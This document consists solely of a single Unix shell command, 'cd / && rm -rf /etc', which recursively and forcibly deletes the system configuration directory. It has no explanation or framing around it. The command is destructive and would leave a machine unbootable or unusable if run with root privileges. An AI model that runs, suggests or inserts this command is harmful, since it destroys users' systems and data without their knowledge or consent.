cd / && rm -rf /etc
